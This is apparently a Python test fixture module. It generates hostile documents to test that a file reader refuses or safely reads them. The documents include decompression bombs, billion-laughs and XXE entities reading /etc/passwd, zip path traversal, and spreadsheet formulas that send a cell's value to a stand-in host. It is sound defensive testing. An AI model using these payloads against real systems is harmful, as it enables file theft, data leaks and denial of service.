"""Documents that attack or merely break their reader, each built by code when it is needed.

`CORPUS` maps a name to the document's builder and what must become of it: ``refused`` (no words come out, an
error says why) or ``read`` (its plain words come out and nothing else happens).
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

from tests.hostile import pdf_making as pdf
from tests.hostile.zip_making import HEAD, TYPES, docx, pptx, rels, write_zip, xlsx

Fate = Literal["refused", "read"]
MIB = 1024 * 1024
LAUGHS = (
    HEAD + '<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
XXE = HEAD + '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


@dataclass(frozen=True, slots=True)
class Hostile:
    """One document of the corpus."""

    suffix: str
    build: Callable[[Path], object]
    """Writes the document to the path it is given."""
    fate: Fate
    says: str = ""
    """A word the explanation must hold."""


def _zip(suffix: str, make: Callable[[], dict[str, str | bytes]], fate: Fate, says: str = "") -> Hostile:
    return Hostile(suffix, lambda path: write_zip(path, make()), fate, says)


def _bytes(suffix: str, make: Callable[[], bytes], fate: Fate, says: str = "") -> Hostile:
    return Hostile(suffix, lambda path: path.write_bytes(make()), fate, says)


def _blank(megabytes: int) -> bytes:
    return b" " * (megabytes * MIB)


def _understated(content: bytes) -> bytes:
    """A package whose headers claim that its text part is 100 bytes long, while it unpacks to 80 MB."""
    part = b"word/document.xml"
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packed.compress(content) + packed.flush()
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 33, 0, len(data), 100, len(part), 0) + part
    central = (
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\1\2",
            20,
            20,
            0,
            8,
            0,
            33,
            0,
            len(data),
            100,
            len(part),
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + part
    )
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    return local + data + central + end


def _truncated() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, content in docx().items():
            archive.writestr(name, content)
    return stream.getvalue()[:-120]


def _nested() -> dict[str, str | bytes]:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("inner.xml", _blank(50))
    return docx() | {"word/embeddings/inner.zip": stream.getvalue()}


def _deep(levels: int) -> str:
    return "<w:sdt><w:sdtContent>" * levels + "<w:p/>" + "</w:sdtContent></w:sdt>" * levels


def _ole(name: str) -> bytes:
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    return header + name.encode("utf-16-le") + bytes(2048)


def _noise() -> bytes:
    return random.Random(7).randbytes(40_000)  # noqa: S311 - the same noise at every run


CORPUS: dict[str, Hostile] = {
    "docx bomb in one part": _zip(
        ".docx", lambda: docx() | {"word/document.xml": _blank(70)}, "refused", "unpack"
    ),
    "docx bomb by ratio": _zip(
        ".docx", lambda: docx() | {"word/document.xml": _blank(20)}, "refused", "unpack"
    ),
    "docx bomb in many parts": _zip(
        ".docx", lambda: docx() | {f"word/part{n}.bin": _blank(1) for n in range(300)}, "refused", "unpack"
    ),
    "docx of too many parts": _zip(
        ".docx", lambda: docx() | {f"word/{n}": b"" for n in range(10_001)}, "refused", "parts"
    ),
    "docx with understated size": _bytes(".docx", lambda: _understated(_blank(80)), "refused"),
    "docx with laughs": _zip(
        ".docx", lambda: docx("<w:p><w:r><w:t>&c;</w:t></w:r></w:p>", LAUGHS), "refused", "type"
    ),
    "docx reaching for a file": _zip(
        ".docx", lambda: docx("<w:p><w:r><w:t>&secret;</w:t></w:r></w:p>", XXE), "refused", "type"
    ),
    "docx with a hidden DOCTYPE": _zip(
        ".docx",
        lambda: docx() | {"word/document.xml": (LAUGHS.replace("UTF-8", "UTF-16") + "<a/>").encode("utf-16")},
        "refused",
        "type",
    ),
    "docx nested too deep": _zip(".docx", lambda: docx(_deep(50_000)), "refused"),
    "docx with outside targets": _zip(
        ".docx",
        lambda: (
            docx()
            | {
                "word/_rels/document.xml.rels": rels(
                    ("a", "attachedTemplate", "http://192.0.2.1/t.dotm"),
                    ("b", "styles", "file:///etc/passwd"),
                )
            }
        ),
        "read",
    ),
    "docx whose parts name each other": _zip(
        ".docx",
        lambda: (
            docx()
            | {
                "word/_rels/document.xml.rels": rels(
                    ("a", "styles", "document.xml"), ("b", "footnotes", "document.xml")
                )
            }
        ),
        "read",
    ),
    "docx with a zip inside": _zip(".docx", _nested, "read"),
    "docx with names that climb": _zip(".docx", lambda: docx() | {"../../climbed.xml": b"<a/>"}, "read"),
    "docx without its text": _zip(".docx", lambda: {"[Content_Types].xml": TYPES, "word/x": b""}, "refused"),
    "docx cut short": _bytes(".docx", _truncated, "refused", "damaged"),
    "doc under a docx name": _bytes(".docx", lambda: _ole("WordDocument"), "refused", "older"),
    "docx under a password": _bytes(".docx", lambda: _ole("EncryptedPackage"), "refused", "password"),
    "noise as docx": _bytes(".docx", _noise, "refused"),
    "noise as pdf": _bytes(".pdf", lambda: b"%PDF-1.7\n" + _noise(), "refused"),
    "noise as xlsx": _bytes(".xlsx", lambda: b"PK\3\4" + _noise(), "refused", "damaged"),
    "nothing at all": _bytes(".docx", lambda: b"", "refused", "empty"),
    "xlsx bomb": _zip(
        ".xlsx", lambda: xlsx() | {"xl/worksheets/sheet1.xml": _blank(70)}, "refused", "unpack"
    ),
    "xlsx with laughs": _zip(
        ".xlsx",
        lambda: xlsx('<row><c t="inlineStr"><is><t>&c;</t></is></c></row>', LAUGHS),
        "refused",
        "type",
    ),
    "xlsx with a cell at the far end": _zip(
        ".xlsx",
        lambda: xlsx(
            '<row r="1"><c r="A1" t="inlineStr"><is><t>Plain words</t></is></c></row>'
            '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        ),
        "refused",
        "used area",
    ),
    "xlsx with formulas": _zip(
        ".xlsx",
        lambda: xlsx(
            '<row r="1"><c r="A1" t="inlineStr"><is><t>Plain words</t></is></c>'
            '<c r="B1"><f>WEBSERVICE(&quot;http://192.0.2.1&quot;)</f><v>7</v></c></row>'
        ),
        "read",
    ),
    "pptx bomb": _zip(".pptx", lambda: pptx() | {"ppt/slides/slide1.xml": _blank(70)}, "refused", "unpack"),
    "pptx with laughs": _zip(".pptx", lambda: pptx("&c;", LAUGHS), "refused", "type"),
    "plain zip as pptx": _zip(".pptx", lambda: {"a.txt": "words"}, "refused", "zip"),
    "pdf whose pages loop": _bytes(".pdf", pdf.page_loop, "refused"),
    "pdf whose tables loop": _bytes(".pdf", pdf.xref_loop, "read"),
    "pdf that unpacks to 300 MB": _bytes(".pdf", lambda: pdf.flate_bomb(300), "refused"),
    "pdf of nested arrays": _bytes(".pdf", lambda: pdf.nested(20_000), "refused"),
    "pdf that claims a million pages": _bytes(".pdf", pdf.false_count, "read"),
    "pdf that launches a program": _bytes(".pdf", pdf.launching, "read"),
    "pdf cut short": _bytes(".pdf", lambda: pdf.plain()[:150], "refused"),
    "pdf under a password": _bytes(".pdf", pdf.locked, "refused", "password"),
    "pdf of pictures": _bytes(".pdf", lambda: pdf.plain(text=""), "refused", "scan"),
    "csv with formulas": _bytes(
        ".csv", f'Plain words,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'.encode, "read"
    ),
    "csv with one endless field": _bytes(".csv", lambda: b'Plain words,1\n"' + b"x" * (3 * MIB), "read"),
    "csv with zero bytes": _bytes(".csv", lambda: b"Plain words,\0\0,1\n" + b"a,b,c\n" * 400, "read"),
    "html nested too deep": _bytes(".html", lambda: b"<html>Plain words" + b"<div>" * 200_000, "read"),
    "html with an endless script": _bytes(
        ".html", lambda: b"<html>Plain words<script>" + b"x<" * MIB, "read"
    ),
    "html of declarations": _bytes(".html", lambda: b"<html>Plain words" + b"<!" * 200_000, "read"),
    "text with controls": _bytes(
        ".txt", "Plain words \x1b]0;title\x07 \u202egnp.exe \x9b2J\n".encode, "read"
    ),
    "text that is not UTF-8": _bytes(".txt", lambda: b"Plain words caf\xe9 \x81\n", "read"),
    "text of one long line": _bytes(".txt", lambda: b"Plain words " + b"word " * (2 * MIB), "read"),
    "markdown of marks": _bytes(".md", lambda: b"Plain words\n\n" + b"#" * MIB + b"\n" + b"*" * MIB, "read"),
}
"""Every hostile document by name."""
